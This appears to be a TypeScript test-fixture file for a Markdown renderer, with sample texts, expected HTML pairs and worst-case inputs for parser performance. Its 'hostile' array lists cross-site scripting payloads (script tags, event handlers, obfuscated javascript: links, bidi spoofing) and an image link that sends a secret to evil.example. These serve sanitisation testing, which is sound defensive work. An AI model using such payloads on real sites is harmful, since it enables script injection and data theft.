// Texts for the Markdown tests.

export const answers: string[] = [
  "Oak is a **hardwood** of the genus *Quercus*[1]. It keeps well outside[2].\n\n## Care\n\n1. Sand it along the grain\n   - 120, then 180\n   - wipe off the dust\n2. Oil it ~~once~~ twice\n\nMore: [the page](https://cited.example/1), and [another](https://other.example/x_y).\n",
  "Run this:\n\n```python\ndef f(a, b):\n    return a * b  # **not bold**\n\nprint(f(2, 3))\n```\n\nThen `f(1, 2)` gives ***two***. Ünïcödé 😀 𝒳 [2].\n\n> A quote with `code`\n> and **more**\n\n---\n\nEnd.",
  "| Step | Time |\n|:-----|-----:|\n| **Sand** | 20 min |\n| Oil `x` | 10 min[1] |\n\nDone\n\n- [x] one\n- [ ] two\n\n  with a paragraph\n\n  ```sh\n  ls -l\n  ```\n- three",
  "Line one  \nline two\\\nline three\n\n* a\n  * b\n    * c\n\n      deep\n\nAfter **bold with `code` and *em* in it**, done.",
];

/** Texts whose beginnings are parsed differently than the whole text. */
export const changing: string[] = [
  "text\n| no table\nmore\n\nend",
  "text\n| a | b |\n|---|---|---|\nmore",
  "text\n```js`\nmore",
  "- a\n\nb\n===\n\nc",
  "a\n1) b\n2) c\n14. d\n\n- - e\n- * * *\n",
  "Wood[1] and stone[1], and again[1].\n\nWood[1]",
  "- Wood[1]\n- stone[1]\n- c\n- d\n\n- again[1]",
  "| Wood[1] | b |\n|---|:-:|\n| stone[1] | c |\n| d | e |\n| again[1] | f |\n| g |\n\nend",
];

export const pairs: [string, string][] = [
  ["# A\n\n## B ##\n\n###### C", "<h2>A</h2><h3>B</h3><h6>C</h6>"],
  ["A\n===\nB\n---", "<h2>A</h2><h3>B</h3>"],
  ["a *b* **c** ***d*** ~~e~~ `f`", "<p>a <em>b</em> <strong>c</strong> <em><strong>d</strong></em> <del>e</del> <code>f</code></p>"],
  ["snake_case_name __x__ 2 * 3 * 4", "<p>snake_case_name <strong>x</strong> 2 * 3 * 4</p>"],
  ["a  \nb\\\nc\nd", "<p>a<br>b<br>c\nd</p>"],
  ["\\*a\\* &amp; &lt; &copy; &#65;", "<p>*a* &amp; &lt; &amp;copy; A</p>"],
  ["`` a ` b `` `x", "<p><code>a ` b</code> `x</p>"],
  ["\\``", "<p>``</p>"],
  ["say \\``` now", "<p>say ``` now</p>"],
  ["\\`` a ` b", "<p>`<code>a</code> b</p>"],
  ["- a\n- b\n  - c\n\n    d\n- e", "<ul><li>a</li><li>b<ul><li><p>c</p><p>d</p></li></ul></li><li>e</li></ul>"],
  ["3. a\n4. b\n\n   c", '<ol start="3"><li><p>a</p></li><li><p>b</p><p>c</p></li></ol>'],
  ["1. a\n  - b\n  - c\n2. d", "<ol><li>a<ul><li>b</li><li>c</li></ul></li><li>d</li></ol>"],
  ["- a\n+ b", "<ul><li>a</li></ul><ul><li>b</li></ul>"],
  ["- [x] a\n- [ ] b", '<ul><li><input type="checkbox" disabled="" checked=""> a</li><li><input type="checkbox" disabled=""> b</li></ul>'],
  ["> a\nb\n\nc", "<blockquote><p>a\nb</p></blockquote><p>c</p>"],
  ["> - a\n> - b\n>\n> ```\n> x\n> ```\nafter", "<blockquote><ul><li>a</li><li>b</li></ul><pre><code>x</code></pre></blockquote><p>after</p>"],
  ["~~~\n```\n~~~\n\n```js x\n<b>\n", "<pre><code>```</code></pre><pre><code>&lt;b&gt;\n</code></pre>"],
  ["    a\n\n    b\nc", "<pre><code>a\n\nb</code></pre><p>c</p>"],
  ["a\n\n***\n\nb", "<p>a</p><hr><p>b</p>"],
  ["| a | b |\n|---|:-:|\n| 1 | x\\|y |\n| 2 | 3 | 4 |\n\nc", "<div><table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td><td>x|y</td></tr><tr><td>2</td><td>3</td></tr></tbody></table></div><p>c</p>"],
  ["a | b\nc", "<p>a | b\nc</p>"],
  [`${"|a".repeat(101)}\n${"|-".repeat(101)}`, `<p>${"|a".repeat(101)}\n${"|-".repeat(101)}</p>`],
  ["a\r\nb\r\n\r\nc", "<p>a\nb</p><p>c</p>"],
  ["", ""],
  [" \n\t\n", ""],
];

export const hostile: string[] = [
  "<script>alert(1)</script>",
  "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
  '<img src=x onerror="alert(1)">',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href='javascript:alert(1)'>x</a>",
  "<!-- --><style>*{background:url(https://evil.example)}</style>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:x) [x](//evil.example) [x](\\\\evil.example) [x](https://cited.example/1@evil.example)",
  "[x](<javascript:alert(1)>)",
  "[x](https://evil.example \"title\" onclick=alert(1))",
  "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  "![x](https://evil.example/p.png?d=secret)",
  "[![x](https://evil.example/p.png)](https://evil.example)",
  "![x][r]\n\n[r]: https://evil.example/p.png",
  "[x][r] [r] [r][]\n\n[r]: javascript:alert(1) 'x'",
  "<https://evil.example> <me@evil.example> https://evil.example www.evil.example",
  "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
  "```html\n<script>alert(1)</script>\n```",
  "```\"><img src=x onerror=alert(1)>\nx\n```",
  "| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |",
  "# <svg/onload=alert(1)>\n\n- <img src=x onerror=alert(1)>\n\n> <script>alert(1)</script>",
  "[a\u202Emoc.elpmaxe](https://evil.example)",
  "\u202E\u2066\u2067 x \u2069",
  "[1]: https://evil.example\n\n[1] [99999] [100000] [-1] [01]",
  "\0 a\u0000b &#0; &#xD800; &#x110000; &#999999999;",
  "__proto__ [x](__proto__) ```__proto__\nx\n```",
  "[[[[x](a)](b)](c)](d)",
  "*".repeat(50) + "a" + "*".repeat(50),
];

const marks =
  "* ** *** _ __ ~~ ` `` ``` ~~~ [ ] ( ) ]( ![ ](https://cited.example/1) ](https://evil.example) ](javascript:x) ](file) < > <b> <script> &amp; &#60; [1] [2] | --- === \\ ! & : \u202E \u2066 \0 😀 é a b \u00A0"
    .split(" ");
const lines = ["\n", "\n", "\n\n", "  \n", "\\\n", "\r\n", "\n- ", "\n- ", "\n\n- ", "\n  - ", "\n1. ", "\n2. ", "\n* [x] ", "\n> ", "\n# ", "\n```\n", "\n|a|b|\n|-|-|\n", "\n|a|b[1]|", "\n|a|b|", "\n    ", "\t", " "];

/** Yields pseudo-random texts that consist of markers. The sequence is always the same. */
export function* mixtures(count: number): Generator<string> {
  let state = 20_261_121;
  const below = (n: number): number => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return Math.floor((state / 2 ** 32) * n);
  };
  for (let i = 0; i < count; i++) {
    let text = "";
    for (let left = 1 + below(i % 10 === 0 ? 90 : 25); left > 0; left--) {
      const from = below(3) === 0 ? lines : marks;
      text += from[below(from.length)];
    }
    yield text;
  }
}

/** Returns texts of about 200 KB, each the worst case for one part of the parser. */
export function huge(): Record<string, string> {
  const fill = (part: string): string => part.repeat(Math.ceil(200_000 / part.length));
  return {
    "quotes 10,000 deep": `${">".repeat(10_000)}x`,
    "quotes in many lines": `${">".repeat(500)}x\n`.repeat(400),
    "lists 600 deep": Array.from({ length: 600 }, (_, i) => `${"  ".repeat(i)}- a`).join("\n"),
    "quotes and lists": Array.from({ length: 5000 }, (_, i) => `${">".repeat(i % 40)} - a`).join("\n"),
    "100,000 asterisks": "*".repeat(100_000),
    "asterisks around": `${"*".repeat(100_000)}a${"*".repeat(100_000)}`,
    "100,000 brackets": "[".repeat(100_000),
    "brackets that close": "[".repeat(100_000) + "]".repeat(100_000),
    "half links": fill("[a]("), "links with quotes": fill('[a](b "'), "links with angles": fill("[a](<b"), "links with parentheses": fill("[a]((b"), "a link and blanks": `[a](${" ".repeat(200_000)}`,
    images: fill("!["), emphasis: fill("*a "), "emphasis between": fill("a**b"), underscores: fill("_a__b"), "emphasis of two kinds": fill("*a_ "), "emphasis deep": fill("*a **b ") + fill("b** a*"), tildes: fill("~~a"),
    backticks: fill("`a``"), "backticks of all lengths": Array.from({ length: 600 }, (_, i) => "`".repeat(i)).join(" "), backslashes: fill("\\"),
    pipes: fill("|a"), "a wide table": `${"|a".repeat(50_000)}\n${"|-".repeat(50_000)}\n${"x\n".repeat(50_000)}`,
    blanks: `${" ".repeat(200_000)}x`, "blank lines": fill("\n"), hashes: `# ${fill("#")}x`, dashes: `${fill("- ")}x`, "underlined headings": fill("a\n=\n"),
    digits: fill("1."), entities: fill("&#x202e;"), markers: fill("[1]"), tags: fill("<a "), words: fill("hello world "), everything: fill("*_~~[`!"), "beyond the BMP": fill("😀*"),
    "a lazy quote": `> a\n${fill("b\n")}`, "a lazy list": `- a\n${fill("b\n")}`, "a list and blanks": `- a\n${fill("\n")}b`, fences: fill("```\n"),
  };
}
